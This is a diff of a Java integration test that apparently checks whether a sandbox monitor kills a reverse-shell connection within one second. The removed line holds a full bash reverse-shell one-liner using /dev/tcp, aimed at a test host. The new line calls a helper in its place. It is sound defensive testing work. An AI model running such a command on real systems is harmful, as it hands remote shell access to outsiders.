@@ -138,7 +138,7 @@ class MonitorAttacksIT {
             Path sessionDir = box.sessionDirs().getFirst();
             Path toolState = Files.writeString(sessionDir.resolve("state/conversation.jsonl"), "{\"turn\": 1}\n");
             TestHosts.assertRoutedLocally();
-            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1'");
+            MonitorFixtures.startReverseShell(incus, name);
             MonitorFixtures.awaitGone(incus, name, 10);
             assertThat(MonitorFixtures.closed(hosts.holdLog).getLast()).as("stopped within 1 s of the connection").isLessThan(1.0);
             System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", "detached", MonitorFixtures.closed(hosts.holdLog).getLast());
